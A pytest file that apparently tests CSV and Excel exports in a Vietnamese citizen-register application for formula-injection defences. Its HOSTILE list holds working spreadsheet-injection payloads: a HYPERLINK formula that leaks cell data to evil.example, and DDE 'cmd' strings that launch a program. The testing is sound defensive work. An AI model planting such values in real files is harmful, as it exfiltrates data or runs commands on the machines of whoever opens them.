"""Every spreadsheet and CSV export, with a hostile value in every field that carries user text,
read back: no cell is a formula, and the text is still there (defused by `safe_text`).

The exports: the rejected rows of a register import (through its download), the daily progress
report, the officer report, the `cccd link` result CSV, and the discrepancy list a school receives.
A control character in a value used to turn the rejected-rows download into a 500 (issue 12, 13).
"""

from __future__ import annotations

import csv
import dataclasses
import datetime
import inspect
import io
from collections.abc import Iterator
from pathlib import Path
from types import SimpleNamespace
from typing import Any

import pytest
from openpyxl import load_workbook

from cccd.accounts.models import User
from cccd.campaigns.models import Session
from cccd.registry.importing import run_import
from cccd.registry.models import RegisterImport
from cccd.registry.services import import_file
from cccd.reports.daily_report import ChildLine, Line, ReportContent, render_xlsx
from cccd.reports.officers import OfficerRow, render_officer_xlsx
from cccd.rosters import xlsx as discrepancy_list
from cccd.rosters.linkage import Candidate, LinkResult, write_results
from cccd.rosters.models import Outcome, Roster, RosterEntry
from cccd.spreadsheets import safe_text
from tests.builders import Tree
from tests.conftest import client_for

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "Nguyễn\x07Văn\x1bAn",  # control characters the xlsx XML cannot hold
]
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def cells(data: bytes) -> Iterator[Any]:
    book = load_workbook(io.BytesIO(data))
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            yield from row


def assert_written_as_text(data: bytes, value: str) -> None:
    found = list(cells(data))
    formulas = [c.coordinate for c in found if c.data_type == "f"]
    assert not formulas, f"formula cells {formulas}"
    texts = [c.value for c in found if isinstance(c.value, str)]
    # as imported (stripped), as shown in a heading (upper case); XML reads a CR back as LF
    variants = {value, value.upper(), value.strip()}
    expected = {safe_text(v).replace("\r", "\n") for v in variants}
    assert any(e in text for text in texts for e in expected), f"{value!r} did not survive"


@pytest.mark.django_db
@pytest.mark.parametrize("value", HOSTILE)
def test_the_rejected_rows_download_writes_the_file_s_values_as_text(
    value: str, tmp_path: Path, tree: Tree, administrator: User
) -> None:
    header = "Số định danh,Họ và tên,Ngày sinh,Giới tính,Quê quán,Nơi thường trú,Họ tên cha,Họ tên mẹ,Mã hộ,Dân tộc,Tôn giáo"
    quoted = '"' + value.replace('"', '""') + '"'
    filler = "".join(f"x{n},Nguyễn Văn An,1990,Nam,,,,,,,\n" for n in range(120))  # 4 KB of text
    path = tmp_path / "reg.csv"
    path.write_text(header + "\n" + filler + ",".join([quoted] * 11) + "\n", encoding="utf-8")
    imp = run_import(import_file(path, actor=None, unit_path="/ca/"))
    assert (imp.state, imp.rejected) == ("done", 121)
    response = client_for(administrator).get(f"/registry/imports/{imp.pk}/rejected.xlsx")
    assert response.status_code == 200
    assert_written_as_text(b"".join(response.streaming_content), value)
    assert RegisterImport.objects.count() == 1


# The report's fields that carry names users typed (units, campaigns, priority groups); the others
# (labels, the forecast, notes) are sentences the report writes from numbers and dates.
USER_TEXT = {"parent_name", "unit_name", "date_line", "campaign_name"}


def _content(value: str) -> ReportContent:
    """A report whose every name, in its heading and in its lists, is `value`."""
    texts = {f.name: "x" for f in dataclasses.fields(ReportContent) if f.type == "str"}
    assert USER_TEXT <= texts.keys()
    texts |= dict.fromkeys(USER_TEXT, value)
    return ReportContent(
        **texts,
        day=datetime.date(2021, 3, 6),
        lines=[Line("Chỉ tiêu được giao", 1)],
        children=[ChildLine(1, value, 10, 5, 50.0, 1)],
        by_group=[(value, 3)],
        by_kind=[(value, 2)],
        remarks=[value],
        figures=None,  # type: ignore[arg-type]
    )


@pytest.mark.parametrize("value", HOSTILE)
def test_the_daily_report_writes_names_as_text(value: str) -> None:
    assert_written_as_text(render_xlsx(_content(value)), value)


@pytest.mark.parametrize("value", HOSTILE)
def test_the_officer_report_writes_names_as_text(value: str) -> None:
    texts = {f.name: value for f in dataclasses.fields(OfficerRow) if f.type == "str"}
    assert {"name", "username", "unit_name"} <= texts.keys()
    data = render_officer_xlsx(
        [OfficerRow(user_id=1, **texts, intakes=3)],
        unit=SimpleNamespace(name=value),  # type: ignore[arg-type]
        date_from=datetime.date(2021, 3, 1),
        date_to=datetime.date(2021, 3, 31),
    )
    assert_written_as_text(data, value)


@pytest.mark.parametrize("value", HOSTILE)
def test_the_link_result_csv_writes_no_formula(value: str, tmp_path: Path) -> None:
    result = LinkResult(1, "review", value, (Candidate(value, 0.5),), 0.5)
    write_results([result], tmp_path / "out.csv")
    with (tmp_path / "out.csv").open(encoding="utf-8", newline="") as handle:
        fields = [field for row in csv.reader(handle) for field in row]
    assert not [f for f in fields if f.startswith(FORMULA_START)]
    assert safe_text(value) in fields


@pytest.mark.django_db
@pytest.mark.xfail(
    "safe_text" not in inspect.getsource(discrepancy_list),
    strict=True,
    reason="the discrepancy writer (rosters/xlsx.py, rewritten on i12-rosters) does not write "
    "through safe_text on this branch",
)
@pytest.mark.parametrize("value", HOSTILE)
def test_the_discrepancy_list_writes_the_school_s_values_as_text(
    value: str, session: Session, officer_dakmil: User
) -> None:
    roster = Roster.objects.create(
        session=session,
        unit=session.unit,
        file="rosters/x.csv",
        original_name="x.csv",
        kind="csv",
        state=Roster.State.CHECKED,
        is_current=True,
    )
    columns = ("full_name", "birth_date", "sex", "class_name", "personal_id")
    RosterEntry.objects.create(
        roster=roster,
        row=1,
        line=2,
        fingerprint="1",
        values=dict.fromkeys(columns, value),
        outcome=Outcome.NOT_FOUND,
        problems=[["BAD_NAME", f"“{value}” is not a name"]],
    )
    response = client_for(officer_dakmil).get(f"/rosters/{roster.pk}/discrepancies.xlsx")
    assert response.status_code == 200
    assert_written_as_text(b"".join(response.streaming_content), value)
